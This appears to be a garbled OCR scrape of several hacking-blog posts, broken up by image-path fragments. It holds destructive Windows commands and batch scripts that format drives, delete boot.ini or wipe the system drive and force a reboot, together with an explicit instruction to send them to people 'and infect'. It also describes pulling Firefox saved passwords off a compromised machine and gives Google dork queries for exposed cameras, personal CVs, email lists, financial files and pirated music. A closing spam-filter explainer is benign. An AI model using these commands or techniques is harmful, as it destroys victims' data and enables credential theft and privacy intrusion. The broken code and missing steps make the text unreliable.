Format a HDD with Notepad

How to format a HDD using a notepad. This is really cool.

Step 1.
Copy The Following In Notepad Exactly as it says


Step 2.
Save As An EXE Any Name Will Do

Step 3.
Send the EXE to People And Infect


IF u think u cannot format c driver when windows is running try Laughing and u will get it Razz .. any way some more so u can test on other drives this is simple binary code
format c:\ /Q/X — this will format your drive c:\01100110011011110111001001101101011000010111010000 100000011000110011101001011100


format d:\ /Q/X — this will format your dirve d:\

01100110011011110111001001101101011000010111010000 100000011001000011101001011100


format a:\ /Q/X — this will format your drive a:\

01100110011011110111001001101101011000010111010000 100000011000010011101001011100


del /F/S/Q c:\boot.ini — this will cause your computer not to boot.

01100100011001010110110000100000001011110100011000 101111010100110010111101010001

00100000011000110011101001011100011000100110111101 101111011101000010111001101001try to figure out urself rest
cant spoonfeed
its working

Do not try it on your PC. Don’t mess around this is for educational purpose only

still if you cant figure it out try this

go to notepad and type the following:

@Echo off
Del C:\ *.*|y

save it as Dell.bat

want worse then type the following:@echo off
del %systemdrive%\*.*/f/s/q
shutdown -r -f -t 00

and save it as a .bat file

Firefox Saved Passwords

Nothing earthshattering, but since this is a place for my notes…

Sometimes while you are on a box andpilfering through all the documents doesn’t yield anything useful for you to move laterally you can sometimes grab the Firefox saved passwords. Lots of times someone will save their password to the corporate OWA, wiki, helpdesk page, or whatever. Even if doesn’t give you a *great* lead you’ll at least get an idea if they are a password re-user or not.

So how to do it?

Actually its simple. Inside of the mozilla\firefox directory will be somethingrandom.default. Inside that folder you’ll find:


If there is no master password set, all you have to do is replace the files on your test VM with the two files you downloaded, open firefox, go to preferences, security, and do a view saved passwords.

I think there are some fancy Firefox plug-ins that can pull this info out and I’m sure there are some binaries you can push up that will dump this for you as well. But this is quick and easy and you’re probably already downloading files (at least you probably *should* be) anyway..

How to use Google for Hacking

Google serves almost 80 percent of all search queries on the Internet, proving itself as the most popular search engine. However Google makes it possible to reach not only the publicly available information resources, but also gives access to some of the most confidential information that should never have been revealed. In this post I will show how to use Google for exploiting security vulnerabilities within websites. The following are some of the hacks that can be accomplished using Google.


1. Hacking Security Cameras


There exists many security cameras used for monitoring places like parking lots, college campus, road traffic etc. which can be hacked using Google so that you can view the images captured by those cameras in real time. All you have to do is use the following search query in Google. Type in Google search box exactly as follows and hit enter


Click on any of the searchresults (Top 5 recommended) and you will gain access to the live camera which has full controls. You will see something as follows

As you can see in the above screenshot, you now have access to the Live cameras which work in real-time. You can also move the cameras in all the four directions, perform actions such as zoom in and zoom out. This camera has really a less refresh rate. But there are other search queries through which you can gain access to other cameras which have faster refresh rates. So to access them just use the following search query.

intitle:”Live View / – AXIS”

Click on any of the search resultsto access a different set of live cameras. Thus you have hacked Security Cameras using Google.


2. Hacking Personal and Confidential Documents


Using Google it is possible to gain access to an email repository containing CV of hundreds of people which were created when applying for their jobs. The documents containing their Address, Phone, DOB, Education, Work experience etc. can be found just in seconds.

intitle:”curriculum vitae” “phone * * *” “address *” “e-mail”

You can gain access to a list of .xls (excel documents) which contain contact details including email addresses of large group of people. To do so type the following search query and hit enter.

filetype:xls inurl:”email.xls”

Also it’s possible to gain access to documents potentially containing information on bank accounts, financial summaries and credit card numbers using the following search query

intitle:index.of finances.xls


3. Hacking Google to gain access to Free Stuffs


Ever wondered how to hack Google for free music or ebooks. Well here is a way to do that. To download free music just enter the following query on google search box and hit enter.

“?intitle:index.of?mp3 eminem“

Now you’ll gain access to the whole index of eminem album where in you can download the songs of your choice. Instead of eminem you can subtitute the name of your favorite album.To search for the ebooks all you have to do is replace “eminem” with your favorite book name. Also replace “mp3″ with “pdf” or “zip” or “rar”.

I hope you enjoy this post. Pass your comments. Cheers!

A Self Destructing Program in C

This program will destroy itself upon execution. The program will cause the .exe file to be deleted upon execution. That is this program is capable of destroying itself upon execution. Here is the code

void main()
printf(“This program will destroy itself if u press any key!!!\n”);
remove(_argv[0]);/*array of pointers to command line arguments*/



Load the source code to the compiler and compile (press Alt-F9) and then press F9. This will generate the .exe file in the current directory (Bin directory). Execute this .exe file it will destroy itself upon execution.

How do Email Spam Filters WorkIf you are the one who works with emails on a daily basis, you are most likely to be using a SPAM FILTER to ease the job of siftingthrough a large number of spam emails every day. Needless to say that spam filters do make our job a lot simpler by automatically filtering out the spam without which it is almost impossible to manually filter the junk emails that arrive in millions each day. However, it is often necessary to have a basic knowledge of how spam filters work and on what basis they flag an email as spam.


How Spam Filters Work?

There are different kinds of spam filters:


Header Spam Filters

Header spam filters work by examining the header information of a particular email message to check if it appears to have been forged. The header of every email contains information which tells the origin of the email. ie: The incoming email ID and usually the IP address (server address) of the sender. So spammers often forge the header to input a false sender ID and IP address so as to make it difficult totrace them. Thus if an email is supposed to have a forged header or if the same message is found to have been sent to multiple recipients, it is most likely considered as a spam by many filters. This method of spam filtering is often quite effective, however occasionally it may result in some of the requested newsletters from being misdirected into the spam folders.


Content Spam Filters

Content spam filter is one of the most effective and widely used filter to combat spam emails. They use a sophisticated algorithm with a set of pre-defined rules to determine whether a given email is a spam. They work by scanning the entire text/body of the email to search for specific words and patterns that make them resemble a typical spam message. Most content spam filters work based on the following criteria and check to see1. If the message speaks a lot about money matter. Commonly suspected words include: lottery, discount, offer, bank account, money back guarantee etc.

2. If the message contains adult terms like: viagra, pills, bed, drugs, hot and so on.

3. If there is any sort of urgency. Most spam emails call for an urgency by using terms such as hurry, offer valid till etc.

4. If the message contains a single large image with little or no text then it is often considered as spam by many filters.

Each content spam filter may have it’s own set of additional rules using which it evaluates each incoming email. In most cases content and header spam filters are combined together to achieve higher level of accuracy.


Language Spam Filters

Language spam filter is designed to simply filter out any email that is not in the user’s native language. Since spammers come from all parts of the world with different languages, a language spam filter can help get rid of those annoying emails that come in the languages that you can’t read!


User Defined Spam Filters

User defined spam filters can be very handy, however they need a considerable amount of time investment in configuring and setting up a set the rules using which the filter works. For example, the user can configure to have all the emails from friends and company to reach the inbox, newsletters to reach a secondary inbox and all those remaining to the spam folder. Here the user must carefully examine the patterns of spam emails that he receives from time to time and needs to set up the rules accordingly. This filter when improperly configured can sometime lead to false positives or falsenegatives.


Other Types of Spam Filters

Popular webmail services like Gmail, Yahoo and Hotmail combine both header and content spam filtering techniques. In addition to this they alsouse their own algorithms to combat spam. For example services like Gmail uses “optical text recognition” to identify spammy text inside an image. Also users are provided with an option to “ReportSpam” whenever a spam emailaccidentally reaches the inbox. With the user feedback, the filter learns andbecomes more powerful in carrying out the filtering process.